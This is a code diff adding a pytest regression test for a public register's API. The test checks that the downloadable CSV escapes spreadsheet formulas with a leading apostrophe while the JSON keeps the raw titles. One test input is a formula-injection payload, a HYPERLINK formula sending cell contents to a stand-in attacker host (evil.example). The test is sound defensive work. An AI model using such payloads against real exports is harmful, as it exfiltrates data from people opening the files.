@@ -16,6 +16,7 @@ from xml.etree import ElementTree
 import pytest
 
 from tests.api.conftest import Api
+from tests.api.proposer_support import issued, ok
 from tests.paperwork_support import demo_server
 
 AS_OF = "2026-06-30"
@@ -240,3 +241,30 @@ def test_the_page_runs_no_script_whatever_a_link_holds_R_D4(demo_api: Api) -> No
     for answer in (demo_api.get("/public", None), demo_api.get("/public", None, cursor="x")):
         policy = answer.headers["content-security-policy"]
         assert "script-src 'none'" in policy and "frame-ancestors 'none'" in policy
+
+
+def test_the_open_data_file_holds_no_formula_for_a_spreadsheet_to_run_R_P2(api: Api) -> None:
+    """The register's CSV opens in Excel (it starts with a BOM for it): an attack probe's case
+    titled =HYPERLINK(…) came out as a live formula in a file anyone downloads. Text a
+    spreadsheet reads as a formula (= + - @, or a tab or CR first) starts with an apostrophe,
+    as the .xlsx registers write such text as text."""
+    titles = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "@SUM(1+1)", "-2+3", "关于=的建议"]
+    for n, title in enumerate(titles):
+        case_id, reply_id = issued(api, f"+CSV-{n}", title=title)
+        review = {
+            "reply_id": reply_id,
+            "approved": True,
+            "note": "同意",
+            "occurred_on": "2025-04-16",
+        }
+        ok(api.post(f"/v1/cases/{case_id}/disclosure-review", review, "office"))
+        publish = {"reply_id": reply_id, "published_on": "2025-04-17", "url": f"https://x.cn/{n}"}
+        ok(api.post(f"/v1/cases/{case_id}/disclosure", publish, "office"))
+    sheet = api.get("/v1/public/replies.csv", None)
+    lines = list(csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"))))[1:]
+    assert sorted((line[0], line[3]) for line in lines) == sorted(
+        [(f"'+CSV-{n}", "'" + t if n < 3 else t) for n, t in enumerate(titles)]
+    )
+    # The JSON is data, not a spreadsheet: it says what was typed.
+    listed = api.get("/v1/public/replies", None).json()["items"]
+    assert sorted(r["title"] for r in listed) == sorted(titles)
